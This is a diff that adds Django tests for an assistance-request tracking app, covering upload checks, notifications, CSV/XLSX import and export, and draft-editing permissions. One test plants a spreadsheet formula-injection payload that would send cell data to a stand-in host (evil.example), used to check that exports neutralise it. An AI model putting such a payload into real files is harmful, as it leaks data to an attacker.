@@ -318,3 +318,258 @@ def test_a_page_in_french(focal_mli_client, mli_request):
     ).content.decode()
     assert "Pays les moins avancés à la date de présentation" in body
     assert "Soumise" in body
+
+
+# ---------------------------------------------------------------------------------------------- review fixes
+
+NEW_REQUEST = {
+    "country": "MLI",
+    "title": "Help to ratify the nuclear terrorism convention",
+    "requesting_authority": "Ministère des Affaires étrangères",
+    "assistance_types": ["legislative_drafting"],
+    "themes": ["terrorism"],
+    "instruments": "ICSANT",
+    "description": "Drafting of the implementing legislation.",
+}
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [(b"MZ\x90\x00binary", "is not a PDF, DOCX, PNG or JPEG"), (PDF + b"0" * 2048, "files may be at most")],
+)
+@override_settings(TCDESK_MAX_UPLOAD_BYTES=1024)
+def test_it_records_and_notifies_nothing_when_the_attachment_of_a_new_request_is_refused(
+    focal_mli_client, officer, django_capture_on_commit_callbacks, content, message
+):
+    from django.core import mail
+
+    mail.outbox.clear()
+    with django_capture_on_commit_callbacks(execute=True):
+        response = focal_mli_client.post(
+            reverse("assistance:request_create"),
+            {**NEW_REQUEST, "attachment": SimpleUploadedFile("letter.pdf", content)},
+        )
+    assert response.status_code == 422 and message in response.content.decode()
+    assert "attachment" in response.context["form"].errors
+    assert not AssistanceRequest.objects.exists() and not RequestAttachment.objects.exists()
+    assert mail.outbox == []
+
+
+def test_it_notifies_the_officers_once_the_request_and_its_attachment_are_committed(
+    focal_mli_client, officer, django_capture_on_commit_callbacks, settings, tmp_path
+):
+    from django.core import mail
+
+    settings.MEDIA_ROOT = tmp_path
+    mail.outbox.clear()
+    with django_capture_on_commit_callbacks(execute=True) as callbacks:
+        response = focal_mli_client.post(
+            reverse("assistance:request_create"),
+            {**NEW_REQUEST, "attachment": SimpleUploadedFile("letter.pdf", PDF)},
+        )
+        assert mail.outbox == []  # nothing leaves before the commit
+    assert response.status_code == 302 and len(callbacks) == 1
+    request = AssistanceRequest.objects.get()
+    assert request.status == "submitted" and request.attachments.count() == 1
+    assert [m.to for m in mail.outbox] == [[officer.email]]
+
+
+def test_it_neutralises_formulas_in_exports_and_the_import_reads_them_back(officer_client, make_request):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    make_request(title=evil, requesting_authority="+33 1 23", beneficiary_institutions="@SUM(A1)", mandates=[])
+    response = officer_client.get(reverse("assistance:export", args=["csv"]))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["title"] == "'" + evil and row["requesting_authority"] == "'+33 1 23"
+    assert row["beneficiary_institutions"] == "'@SUM(A1)" and row["country"] == "MLI"
+
+    workbook = load_workbook(io.BytesIO(officer_client.get(reverse("assistance:export", args=["xlsx"])).content))
+    cell = workbook.active["C2"]
+    assert cell.value == evil and cell.data_type == "s"
+
+    AssistanceRequest.objects.all().delete()
+    imported = officer_client.post(
+        reverse("assistance:request_import"), {"file": SimpleUploadedFile("back.csv", text.encode())}
+    )
+    assert imported.status_code == 302, imported.context["result"].errors
+    back = AssistanceRequest.objects.get()
+    assert back.title == evil and back.requesting_authority == "+33 1 23"
+    assert back.beneficiary_institutions == "@SUM(A1)"
+
+
+def test_it_numbers_imported_rows_around_references_given_in_the_same_file(officer_client):
+    rows = (
+        IMPORT_HEADER.replace("country,", "reference,country,")
+        + ",MLI,Without reference,Ministry,training_police,terrorism,Police,submitted,2019-03-01,\n"
+        + "TAR-2019-0001,MLI,With reference,Ministry,training_police,terrorism,Police,submitted,2019-04-01,\n"
+    )
+    response = officer_client.post(
+        reverse("assistance:request_import"), {"file": SimpleUploadedFile("r.csv", rows.encode())}
+    )
+    assert response.status_code == 302
+    assert dict(AssistanceRequest.objects.values_list("title", "reference")) == {
+        "Without reference": "TAR-2019-0002",
+        "With reference": "TAR-2019-0001",
+    }
+
+
+def test_it_reports_a_reference_taken_meanwhile_as_a_row_error_and_writes_nothing(officer_client, monkeypatch):
+    from tcdesk.assistance import services
+
+    AssistanceRequestFactory(reference="TAR-2019-0007")
+    monkeypatch.setattr(services, "_next_reference", lambda year: f"TAR-{year}-0007")  # as if taken concurrently
+    good = "MLI,Old request,Ministry,training_police,terrorism,Police training,submitted,2019-03-01,\n"
+    response = officer_client.post(
+        reverse("assistance:request_import"), {"file": SimpleUploadedFile("r.csv", (IMPORT_HEADER + good).encode())}
+    )
+    assert response.status_code == 422
+    assert [(e["row"], e["field"]) for e in response.context["result"].errors] == [(2, "reference")]
+    assert AssistanceRequest.objects.count() == 1
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_it_exports_in_a_number_of_queries_that_does_not_grow_with_rows(officer_client, fmt):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    counts = []
+    for batch in (2, 10):
+        AssistanceRequestFactory.create_batch(batch, themes=["terrorism"])
+        with CaptureQueriesContext(connection) as ctx:
+            response = officer_client.get(reverse("assistance:export", args=[fmt]))
+            if fmt == "csv":
+                b"".join(response.streaming_content)
+        counts.append(len(ctx))
+    assert counts[0] == counts[1]
+
+
+@override_settings(TCDESK_MAX_UPLOAD_BYTES=100)
+def test_it_refuses_an_import_file_over_the_upload_limit(officer_client):
+    content = (IMPORT_HEADER + "MLI,x,y,training_police,,d,draft,,\n" * 5).encode()
+    response = officer_client.post(reverse("assistance:request_import"), {"file": SimpleUploadedFile("r.csv", content)})
+    assert response.status_code == 422
+    assert "import files may be at most" in str(response.context["form"].errors["file"])
+    assert not AssistanceRequest.objects.exists()
+
+
+def test_it_reads_an_xlsx_import_row_by_row(officer_client):
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(IMPORT_HEADER.strip().split(","))
+    sheet.append([])  # blank rows are skipped
+    sheet.append(["MLI", "From Excel", "Ministry", "training_police", "terrorism", "d", "submitted", "2019-03-01"])
+    out = io.BytesIO()
+    workbook.save(out)
+    response = officer_client.post(
+        reverse("assistance:request_import"), {"file": SimpleUploadedFile("r.xlsx", out.getvalue()), "dry_run": "on"}
+    )
+    assert response.status_code == 200 and response.context["result"].rows == 1
+
+
+@pytest.mark.parametrize(
+    ("submitted", "decided", "accepted"),
+    [
+        ("2019-03-01", "2019-03-01T08:00:00", True),  # a date alone: compared as a day
+        ("2019-03-01T10:00:00", "2019-03-01", True),
+        ("2019-03-01T10:00:00", "2019-03-01T08:00:00", False),  # two times: compared as times
+        ("2019-03-02", "2019-03-01T23:00:00", False),
+    ],
+)
+def test_it_compares_import_dates_by_day_when_one_is_given_without_a_time(officer_client, submitted, decided, accepted):
+    row = f"MLI,Old,Ministry,training_police,terrorism,Police,accepted,{submitted},{decided}\n"
+    response = officer_client.post(
+        reverse("assistance:request_import"),
+        {"file": SimpleUploadedFile("r.csv", (IMPORT_HEADER + row).encode()), "dry_run": "on"},
+    )
+    errors = response.context["result"].errors
+    assert (errors == []) is accepted, errors
+    if not accepted:
+        assert errors[0]["field"] == "decided_at"
+
+
+def test_it_shows_the_weights_with_their_labels(officer_client):
+    body = officer_client.get(reverse("assistance:weights")).content.decode()
+    assert "Per 30 days of waiting" in body and "Least developed country at submission" in body
+    assert "<code>waiting_per_30_days" not in body and "waiting_per_30_days=" not in body
+
+
+def test_it_shows_country_group_badges_abbreviated_and_named_in_the_page_language(focal_mli_client, mli_request):
+    url = reverse("assistance:request_detail", args=[mli_request.pk])
+    english = focal_mli_client.get(url).content.decode()
+    assert '<span class="tag" title="Least developed countries">LDC</span>' in english
+    focal_mli_client.cookies["django_language"] = "fr"
+    french = focal_mli_client.get(url, HTTP_ACCEPT_LANGUAGE="fr").content.decode()
+    assert '<span class="tag" title="Pays les moins avancés">PMA</span>' in french
+    assert '<span class="tag" title="Pays en développement sans littoral">PDSL</span>' in french
+    listing = focal_mli_client.get(reverse("assistance:request_list"), HTTP_ACCEPT_LANGUAGE="fr").content.decode()
+    assert ">PMA</span>" in listing and ">LDC</span>" not in listing
+
+
+def test_it_names_a_group_without_a_french_abbreviation_in_full(officer_client):
+    AssistanceRequestFactory(country_id="COL", country_groups=",EIT,SIDS,")
+    officer_client.cookies["django_language"] = "fr"
+    body = officer_client.get(reverse("assistance:request_list"), HTTP_ACCEPT_LANGUAGE="fr").content.decode()
+    assert '<span class="tag" title="Petits États insulaires en développement">PEID</span>' in body
+    assert '<span class="tag" title="Pays en transition">Pays en transition</span>' in body
+
+
+# ---------------------------------------------------------------------------------------------- editing drafts
+
+EDIT = {
+    "title": "Help to ratify ICSANT (revised)",
+    "requesting_authority": "Ministère de la Justice",
+    "assistance_types": ["legislative_drafting", "training_judges"],
+    "themes": ["terrorism"],
+    "instruments": "ICSANT, UNTOC",
+    "description": "Revised description.",
+    "mandates": "A/RES/60/175 op. 5",
+}
+
+
+@pytest.fixture
+def mli_draft(make_request):
+    return make_request(submit=False)
+
+
+def test_it_lets_the_states_focal_point_edit_its_draft(focal_mli_client, mli_draft):
+    url = reverse("assistance:request_edit", args=[mli_draft.pk])
+    detail = focal_mli_client.get(reverse("assistance:request_detail", args=[mli_draft.pk])).content.decode()
+    assert url in detail
+    page = focal_mli_client.get(url)
+    assert page.status_code == 200 and page.context["form"]["title"].value() == mli_draft.title
+    response = focal_mli_client.post(url, {**EDIT, "expected_version": mli_draft.version})
+    assert response.status_code == 302
+    draft = AssistanceRequest.objects.get(pk=mli_draft.pk)
+    assert draft.title == EDIT["title"] and draft.status == "draft" and draft.version == mli_draft.version + 1
+    assert sorted(draft.instruments.values_list("instrument_code", flat=True)) == ["ICSANT", "UNTOC"]
+
+
+def test_it_lets_an_officer_edit_a_draft(officer_client, mli_draft):
+    url = reverse("assistance:request_edit", args=[mli_draft.pk])
+    assert officer_client.post(url, {**EDIT, "expected_version": mli_draft.version}).status_code == 302
+    assert AssistanceRequest.objects.get(pk=mli_draft.pk).title == EDIT["title"]
+
+
+def test_it_hides_a_draft_from_another_states_focal_point_and_refuses_readers(
+    focal_col_client, auditor_client, mli_draft
+):
+    url = reverse("assistance:request_edit", args=[mli_draft.pk])
+    assert focal_col_client.get(url).status_code == 404
+    assert focal_col_client.post(url, {**EDIT, "expected_version": mli_draft.version}).status_code == 404
+    assert auditor_client.get(url).status_code == 403
+    assert auditor_client.post(url, {**EDIT, "expected_version": mli_draft.version}).status_code == 403
+    assert AssistanceRequest.objects.get(pk=mli_draft.pk).title == mli_draft.title
+
+
+def test_it_refuses_to_edit_a_submitted_request_or_from_a_stale_page(focal_mli_client, mli_request, mli_draft):
+    url = reverse("assistance:request_edit", args=[mli_request.pk])
+    response = focal_mli_client.post(url, {**EDIT, "expected_version": mli_request.version}, follow=True)
+    assert "Only a draft can be edited" in response.content.decode()
+    assert AssistanceRequest.objects.get(pk=mli_request.pk).title == mli_request.title
+    url = reverse("assistance:request_edit", args=[mli_draft.pk])
+    response = focal_mli_client.post(url, {**EDIT, "expected_version": mli_draft.version - 1}, follow=True)
+    assert "changed this request in the meantime" in response.content.decode()
+    response = focal_mli_client.post(url, {**EDIT, "title": "", "expected_version": mli_draft.version})
+    assert response.status_code == 422 and "title" in response.context["form"].errors
